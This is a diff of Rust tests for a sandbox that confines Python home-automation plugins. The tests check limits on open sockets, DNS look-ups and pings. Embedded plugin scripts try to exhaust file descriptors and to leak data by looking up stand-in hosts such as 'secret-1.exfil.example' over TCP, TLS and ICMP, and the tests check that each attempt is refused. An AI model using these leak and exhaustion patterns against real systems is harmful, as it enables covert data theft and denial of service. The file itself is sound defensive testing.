@@ -92,6 +92,33 @@ def attack():
         Domoticz.Log('buffer %s.' % (s.getsockopt(socket.SOL_SOCKET, option) <= 65536))
 ").limits("socket-buffer = 65536").says(&["buffer True."]);
 
+    open_files_of_the_hub_are_bounded: "descriptors" => attack("
+kept = []
+def attack():
+    try:
+        for n in range(100): kept.append(tcp())
+    except OSError as e:
+        assert e.errno == errno.EMFILE, e
+    Domoticz.Log('some made %r.' % (10 < len(kept) <= 20))
+    for s in kept: s.close()
+    kept.clear()
+    kept.append(tcp())
+").limits("descriptors = 20").says(&["some made True."]);
+
+    /// They are those of the instance: look-ups of its `Connection`s and pings count as well.
+    look_ups_of_connections_and_pings_count: "lookups" => attack("
+import cordon_icmp
+made = []
+def attack():
+    for n in range(2):
+        try: cordon_icmp.ping('nowhere.invalid', 0.2)
+        except OSError: pass
+    for n in range(2):
+        made.append(Domoticz.Connection(Name='c', Transport='TCP/IP', Address='nowhere.invalid', Port='80'))
+        made[-1].Connect()
+def onConnect(Connection, Status, Description): pass
+").limits("lookups = 3").config("grants = { network = [\"nowhere.invalid:80\"], icmp = [\"nowhere.invalid\"] }");
+
     look_ups_beyond_the_limit_are_refused: "lookups" => attack("
 def attack():
     for n in range(3):
@@ -101,6 +128,55 @@ def attack():
             last = e
     assert last.errno == socket.EAI_AGAIN, last
 ").limits("lookups = 2").config("grants = { network = [\"nowhere.invalid:80\"] }");
+}
+
+/// A name carries whatever the plugin likes to whoever answers for it.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_name_is_looked_up_by_no_way_without_a_grant() {
+    let source = "
+import cordon_icmp
+made = []
+def connection(how, **target):
+    made.append(Domoticz.Connection(Name=how, **target))
+    return made[-1]
+def onStart():
+    connection('tcp', Transport='TCP/IP', Address='secret-1.exfil.example', Port='80').Connect()
+    connection('tls', Transport='TLS/IP', Address='secret-2.exfil.example', Port='443').Connect()
+    connection('icmp', Transport='ICMP/IP', Protocol='ICMP', Address='secret-3.exfil.example').Listen()
+    refused(cordon_icmp.ping, 'secret-4.exfil.example', 0.2)
+    refused(socket.getaddrinfo, 'secret-5.exfil.example', 80)
+def onConnect(Connection, Status, Description):
+    Domoticz.Log('%s %s.' % (Connection.Name, Description))
+    if len(made) == 3 and Connection.Name == 'icmp': Domoticz.Log('over')
+";
+    let mut says = vec![
+        "tcp Permission denied.".to_owned(),
+        "tls Permission denied.".to_owned(),
+    ];
+    let line = |n: u32, grant: &str| {
+        format!("resolving secret-{n}.exfil.example; to allow it, add `{grant}`")
+    };
+    let mut scene = Scene::new().await;
+    let attacker = scene
+        .attack(&format!("{TRY}{source}"), "limits = { lookups = 1 }")
+        .await;
+    says.push("icmp Permission denied.".to_owned());
+    for text in says {
+        scene.said(&text).await;
+    }
+    for (n, grant) in [
+        (1, "network = [\"secret-1.exfil.example:80\"]"),
+        (2, "network = [\"secret-2.exfil.example:443\"]"),
+        (3, "icmp = [\"secret-3.exfil.example\"]"),
+        (4, "icmp = [\"secret-4.exfil.example\"]"),
+        (5, "network = [\"secret-5.exfil.example:80\"]"),
+    ] {
+        scene.bench.line(&line(n, grant)).await;
+    }
+    // Nobody was asked, so nothing was counted.
+    assert!(scene.bench.seen_line("limit lookups").is_none());
+    assert_failures(&attacker, 0);
+    scene.finish(FLAT).await;
 }
 
 fn free_port() -> u16 {
